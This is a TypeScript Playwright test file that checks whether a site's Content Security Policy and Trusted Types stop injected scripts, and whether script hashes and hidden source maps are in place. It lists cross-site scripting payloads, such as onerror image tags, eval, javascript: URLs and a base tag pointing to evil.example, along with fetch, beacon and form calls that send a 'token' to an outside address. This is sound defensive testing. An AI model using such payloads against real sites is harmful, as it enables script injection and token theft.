import { readdir } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { openFaultyLine, type FaultyLine } from './faultyLine';
import { logIn } from './member';
import { closeBrowser, openPhone, siteUrl } from './phone';
import { liveManifest } from './releases';
import { root } from './releaseTool';

const dataDir = path.resolve(root, process.env['DATA_DIR'] ?? '.parlour');

let page: Page;
let line: FaultyLine;
beforeAll(async () => {
  line = await openFaultyLine(siteUrl);
  ({ page } = await openPhone());
  await page.goto(line.url);
  await page.getByRole('navigation').first().waitFor();
  await page.evaluate(() => Object.assign(window, { hits: 0 }));
});
afterAll(async () => {
  await closeBrowser();
  await line.close();
});

/** What a script that got into the page would try, to get more of it in; each would count a hit. */
const attempts: Readonly<Record<string, (shell: string) => unknown>> = {
  'markup from text': () => {
    document.body.innerHTML = '<img src=x onerror="hits++">';
  },
  'markup from text, beside': () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="hits++">'),
  'a written document': () => document.write('<script>hits++</script>'),
  'a parsed document': () => new DOMParser().parseFromString('<p>x', 'text/html'),
  'markup by a range': () => document.createRange().createContextualFragment('<img src=x onerror="hits++">'),
  'a frame with a document of its own': () => {
    document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.hits++</script>';
  },
  eval: () => {
    // oxlint-disable-next-line no-eval -- it is what is tried
    eval('hits++');
  },
  // oxlint-disable-next-line typescript/no-implied-eval -- it is what is tried
  'a function from text': () => new Function('hits++')(),
  // oxlint-disable-next-line typescript/no-implied-eval -- it is what is tried
  'a timer from text': () => setTimeout('hits++' as never),
  'a handler from text': () => {
    document.body.setAttribute('onclick', 'hits++');
    document.body.click();
  },
  'a script from text': () => {
    document.body.appendChild(document.createElement('script')).textContent = 'hits++';
  },
  'a script of a data address': () => {
    document.body.appendChild(document.createElement('script')).src = 'data:text/javascript,hits++';
  },
  'a script of a blob': () => {
    document.body.appendChild(document.createElement('script')).src = URL.createObjectURL(new Blob(['hits++']));
  },
  'a script from elsewhere': () => {
    document.body.appendChild(document.createElement('script')).src = 'http://127.0.0.1:1/hit.js';
  },
  'a script of the operator': () => {
    document.body.appendChild(document.createElement('script')).src = '/demo/hit.js';
  },
  'a script of ours without its hash': (shell) => {
    document.body.appendChild(document.createElement('script')).src = shell;
  },
  'a script of ours with another hash': (shell) => {
    const script = Object.assign(document.createElement('script'), {
      integrity: `sha384-${'A'.repeat(64)}`,
      crossOrigin: 'anonymous',
    });
    script.src = shell;
    document.body.append(script);
  },
  'a script address': () => {
    location.href = 'javascript:void(hits++)';
  },
  'a worker from text': () =>
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).addEventListener('message', () =>
      Reflect.set(window, 'hits', 1),
    ),
  'another base': () => {
    document.head.appendChild(document.createElement('base')).href = 'https://evil.example/';
    if (document.baseURI.includes('evil')) Reflect.set(window, 'hits', 1);
  },
  'a plugin': () => {
    document.body.appendChild(document.createElement('object')).data = 'data:text/html,<script>parent.hits++</script>';
  },
  'a style sheet of text': () => {
    document.body.appendChild(document.createElement('style')).textContent = 'body { --hit: 1 }';
    if (getComputedStyle(document.body).getPropertyValue('--hit')) Reflect.set(window, 'hits', 1);
  },
  'a call to elsewhere': () => fetch('http://127.0.0.1:1/?token').then(() => Reflect.set(window, 'hits', 1)),
  'a beacon to elsewhere': () => {
    const stopped = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.add(effectiveDirective));
    navigator.sendBeacon('http://127.0.0.1:1/', 'token');
    setTimeout(() => stopped.has('connect-src') || Reflect.set(window, 'hits', 1), 100);
  },
  'a form to elsewhere': () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://127.0.0.1:1/', method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a second default policy': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
    document.body.innerHTML = '<img src=x onerror="hits++">';
  },
  'a policy of another name': () => {
    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
    Reflect.set(window, 'hits', 1);
  },
};

describe('attacks: a script that is in the page and wants more', () => {
  it.each(Object.entries(attempts))('%s', async (_what, attempt) => {
    const { shell } = await liveManifest();
    const main = await page.evaluate(
      (version) => document.querySelector(`script[src*="/shell/${version}/"]`)?.getAttribute('src'),
      shell.version,
    );
    // From a timer, since what devtools evaluate themselves goes past the policy.
    const text = `void setTimeout(() => (${attempt.toString()})(${JSON.stringify(main)}))`;
    await page.evaluate(() => Reflect.set(window, 'hits', 0));
    await page.evaluate(text);
    await page.waitForTimeout(150);
    expect(await page.evaluate(() => Number(Reflect.get(window, 'hits')))).toBeLessThanOrEqual(0);
    expect(new URL(page.url()).origin).toBe(line.url);
  });

  it('is reported to the gateway, by the rule', async () => {
    await page.waitForTimeout(300);
    const told = line.requests
      .filter(({ path: at }) => at === '/reports')
      .map(({ body }) => JSON.parse(body)['csp-report']?.['effective-directive']);
    expect([...new Set(told)]).toEqual(
      expect.arrayContaining([
        'require-trusted-types-for',
        'trusted-types',
        'script-src-elem',
        'style-src-elem',
        'connect-src',
        'object-src',
        'base-uri',
        'form-action',
      ]),
    );
    const metrics = await (await fetch(`${siteUrl}/metrics`)).text();
    expect(metrics).toMatch(/parlour_policy_violations_total\{rule="require-trusted-types-for"\} [1-9]/);
  });
});

it('every script and preload in a page carries its hash', async () => {
  const { page: own, complaints } = await openPhone();
  await logIn(own, siteUrl);
  for (const at of ['/', '/wallet', '/betRecord', '/activity', '/mine']) {
    await own.evaluate((to) => location.assign(`#${to}`), at);
    await own.waitForLoadState('networkidle');
  }
  const bare = await own.evaluate(() =>
    [...document.querySelectorAll('script[src], link[rel=preload][as=script], link[rel=stylesheet]')]
      .filter((tag) => !(tag.getAttribute('integrity') ?? '').startsWith('sha384-'))
      .map((tag) => tag.outerHTML),
  );
  expect(bare).toEqual([]);
  expect(complaints).toEqual([]);
});

it('no source map is public, of nothing that is live', async () => {
  const { shell, remotes } = await liveManifest();
  const releases = Object.entries({ shell, ...remotes }).map(([name, { version }]) => `${name}/${version}`);
  for (const release of releases) {
    const files = await readdir(path.join(dataDir, 'registry/assets', release), { recursive: true });
    const scripts = files.filter((file) => file.endsWith('.js'));
    expect(scripts.length).toBeGreaterThan(0);
    for (const file of scripts) {
      const [script, map] = await Promise.all(
        [`${release}/${file}`, `${release}/${file}.map`].map((asset) => fetch(`${siteUrl}/assets/${asset}`)),
      );
      expect([script?.status, map?.status]).toEqual([200, 404]);
      expect(await script?.text()).not.toContain('sourceMappingURL');
    }
  }
});
